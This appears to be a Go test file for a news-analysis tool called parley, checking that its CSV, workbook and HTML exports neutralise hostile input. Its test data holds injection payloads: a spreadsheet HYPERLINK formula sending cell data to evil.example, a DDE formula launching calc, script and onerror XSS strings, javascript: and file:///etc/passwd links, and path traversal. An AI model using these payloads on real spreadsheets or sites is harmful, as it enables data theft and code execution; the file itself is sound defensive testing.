package main

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostile are words that try to be more than words: formulas, mark-up, links,
// control characters.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"x")`, `=cmd|'/C calc'!A0`, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1", " =1+1", "＝1+1",
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `'!A1:B2`, "javascript:alert(1)", "]]><!--", "{{title}}", "_x0041_\x1b[31m", "../../up",
}

// hostileArticles writes articles in which titles, outlets, summits, names,
// addresses and what is said are hostile.
func hostileArticles(t *testing.T, dir string) string {
	t.Helper()
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	urls := []string{"javascript:alert(1)", "file:///etc/passwd", `file://evil.example/share`, `\\evil.example\share`, "data:text/html,x", `https://ok.example/a?x="><b>`}
	for i := range 24 {
		h := func(k int) string { return hostile[(i+k)%len(hostile)] }
		e.Encode(map[string]string{"id": h(0) + strconv.Itoa(i), "title": h(1), "outlet": h(2 + i%2), "url": urls[i%len(urls)], "summit": h(3), "byline": h(4), "section": h(5), "date": fmt.Sprintf("2021-06-%02d", 10+i%9),
			"text": fmt.Sprintf("“%s, and we welcome the progress,” said Ida Holm. %s said Odo Falk had attacked %s. “@SUM(A1) is a threat to Odo Falk,” she added.\n\n“=1+1 thanks Ann Lee,” said %s.", h(6), h(7), h(8), h(9))})
	}
	path := filepath.Join(dir, "night.jsonl")
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// call runs a command in this process; what it prints is checked by the caller.
func call(t *testing.T, stdin string, args ...string) []byte {
	t.Helper()
	var out, told bytes.Buffer
	if code := run(context.Background(), append([]string{"parley"}, args...), strings.NewReader(stdin), &out, &told); code != exitDone {
		t.Fatalf("parley %s: exit %d\n%s", strings.Join(args, " "), code, told.String())
	}
	return out.Bytes()
}

// No writer lets other people's words become formulas, mark-up or links.
func TestHostileWords(t *testing.T) {
	dir := t.TempDir()
	in := hostileArticles(t, dir)
	at := func(name string) string { return filepath.Join(dir, name) }
	store := []string{"--store", at("p.db")}
	with := func(args ...string) []string { return append(args, store...) }
	call(t, "", with("run", "--title", hostile[0], "-o", at("run.xlsx"), in)...)
	call(t, "", with("report", "-o", at("page.html"))...)
	call(t, "", with("report", "--format", "csv", "-o", at("tables"))...)
	call(t, "", with("compare", "--row", "speaker", "--col", "outlet", "-o", at("compare.xlsx"))...)
	call(t, "", with("coverage", "--summit", hostile[3], "-o", at("coverage.xlsx"))...)
	call(t, "", with("sample", "-n", "20", "--coders", "Ann,Ben", "-o", at("sample.xlsx"))...)
	dictionary(t, at("words.csv"))
	call(t, "", "lexicon", "export", at("words.csv"), "-o", at("words.xlsx"))
	texts := hostileTexts()
	call(t, texts, "score", "--format", "xlsx", "-o", at("score.xlsx"), "-")

	for name, out := range map[string][]byte{
		"analyze":  call(t, "", "analyze", "--format", "csv", in),
		"compare":  call(t, "", with("compare", "--row", "speaker", "--col", "outlet", "--detail", "--format", "csv")...),
		"diffs":    call(t, "", with("compare", "--row", "speaker", "--col", "outlet", "--format", "csv", "--table", "differences")...),
		"tests":    call(t, "", with("compare", "--row", "speaker", "--col", "outlet", "--detail", "--format", "csv", "--table", "tests")...),
		"coverage": call(t, "", with("coverage", "--summit", hostile[3], "--format", "csv", "--part", "articles")...),
		"score":    call(t, texts, "score", "--format", "csv", "-"),
		"lexicon":  call(t, "", "lexicon", "coverage", "--format", "csv", "--lexicon", at("words.csv"), in),
	} {
		checkCSV(t, name, ',', out)
	}
	checkCSV(t, "score tsv", '\t', call(t, texts, "score", "--format", "tsv", "-"))
	files, _ := filepath.Glob(at("tables/*.csv"))
	if len(files) < 5 {
		t.Errorf("%d files in tables", len(files))
	}
	for _, f := range files {
		checkCSV(t, filepath.Base(f), ',', read(t, f))
	}
	for _, f := range []string{"run.xlsx", "compare.xlsx", "coverage.xlsx", "sample.xlsx", "words.xlsx", "score.xlsx"} {
		checkWorkbook(t, f, read(t, at(f)))
	}
	checkPage(t, read(t, at("page.html")))
	entries, err := os.ReadDir(dir)
	if err != nil || len(entries) > 14 {
		t.Errorf("files that nobody asked for: %v %v", entries, err)
	}
}

func read(t *testing.T, path string) []byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func hostileTexts() string {
	var b strings.Builder
	for i, h := range hostile {
		line, _ := json.Marshal(map[string]string{"id": h, "text": h + " we thank you", h: hostile[(i+1)%len(hostile)], "=note": h})
		fmt.Fprintf(&b, "%s\n", line)
	}
	return b.String()
}

// dictionary writes one whose terms begin like formulas.
func dictionary(t *testing.T, path string) {
	t.Helper()
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write([]string{"term", "category", "weight", "note"})
	for _, h := range []string{"=1+1", "@sum", "-2+3", "welcome", "threat"} {
		w.Write([]string{h, "mine", "1", hostile[0]})
	}
	w.Flush()
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
}

// checkCSV holds that no cell is a formula: none begins like one unless it is
// one number.
func checkCSV(t *testing.T, name string, comma rune, b []byte) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	r.Comma = comma
	rows, err := r.ReadAll()
	if err != nil || len(rows) < 2 {
		t.Errorf("%s: %d rows, %v\n%s", name, len(rows), err, b)
	}
	for _, row := range rows {
		for _, c := range row {
			begin := strings.TrimLeft(c, " \u00a0")
			if _, err := strconv.ParseFloat(c, 64); err != nil && begin != "" && strings.ContainsAny(begin[:1], "=+-@\t\r\n") || strings.HasPrefix(begin, "＝") {
				t.Errorf("%s: cell %q is a formula", name, c)
			}
		}
	}
}

// checkWorkbook holds that formulas and links are parley's own, and that every
// part is well-formed XML.
func checkWorkbook(t *testing.T, name string, b []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(name, err)
	}
	for _, f := range z.File {
		if strings.Contains(f.Name, "..") || strings.HasPrefix(f.Name, "/") {
			t.Errorf("%s: part %q", name, f.Name)
		}
		if ext := filepath.Ext(f.Name); ext != ".xml" && ext != ".rels" {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		checkPart(t, name+" "+f.Name, r)
		r.Close()
	}
}

func checkPart(t *testing.T, name string, r io.Reader) {
	t.Helper()
	d := xml.NewDecoder(r)
	in := ""
	for {
		tok, err := d.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Errorf("%s: %v", name, err)
			return
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			in = tok.Name.Local
			for _, a := range tok.Attr {
				if a.Name.Local == "Target" && strings.Contains(a.Value, ":") && !strings.HasPrefix(a.Value, "https://ok.example/") {
					t.Errorf("%s: link to %q", name, a.Value)
				}
			}
		case xml.EndElement:
			in = ""
		case xml.CharData:
			formula := in == "f" || strings.HasPrefix(in, "formula") || in == "definedName" || in == "calculatedColumnFormula"
			for _, bad := range []string{"evil", "cmd|", "alert", "SUM(A1)"} {
				if formula && strings.Contains(string(tok), bad) {
					t.Errorf("%s: formula %q", name, tok)
				}
			}
		}
	}
}

// checkPage holds that the page has no script, no handler, and links to the web
// and to itself alone.
func checkPage(t *testing.T, b []byte) {
	t.Helper()
	root, err := html.Parse(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	links := 0
	for n := range root.Descendants() {
		switch n.Data {
		case "script", "img", "iframe", "object", "embed", "base", "form":
			if n.Type == html.ElementNode {
				t.Errorf("page: element %s", n.Data)
			}
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "src" {
				t.Errorf("page: attribute %s=%q", a.Key, a.Val)
			}
			if a.Key == "href" {
				links++
				if !strings.HasPrefix(a.Val, "#") && !strings.HasPrefix(a.Val, "https://ok.example/") {
					t.Errorf("page: link to %q", a.Val)
				}
			}
		}
	}
	if links < 20 {
		t.Errorf("page: %d links", links)
	}
}

// What a run writes is for its user alone where the umask says so: store, lock,
// workbook, page, tables, summary and figures.
func TestFileModes(t *testing.T) {
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("no bash to set the umask")
	}
	n := &night{t: t, dir: t.TempDir(), prog: filepath.Join(t.TempDir(), "parley")}
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(self, n.prog); err != nil {
		t.Fatal(err)
	}
	n.articles(0, 2, "opened")
	out := filepath.Join(n.dir, "out")
	if err := os.Mkdir(out, 0o700); err != nil {
		t.Fatal(err)
	}
	script := `umask 077; cd "$1" && "$0" -q run --summary-json s.json --metrics m.prom ../articles && "$0" -q report -o p.html &&
		"$0" -q report --format csv -o tables && "$0" -q report --format jsonl -o r.jsonl && "$0" -q backup b.db && "$0" init && "$0" lexicon export -o w.csv && "$0" lexicon export -o w.xlsx &&
		"$0" -q sample -n 5 -o sample.xlsx`
	if b, err := exec.Command("bash", "-c", script, n.prog, out).CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, b)
	}
	files := 0
	err = filepath.Walk(out, func(path string, st os.FileInfo, err error) error {
		if err == nil && st.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s: mode %v", path, st.Mode())
		}
		files++
		return err
	})
	if err != nil || files < 20 {
		t.Errorf("%d files, %v", files, err)
	}
}
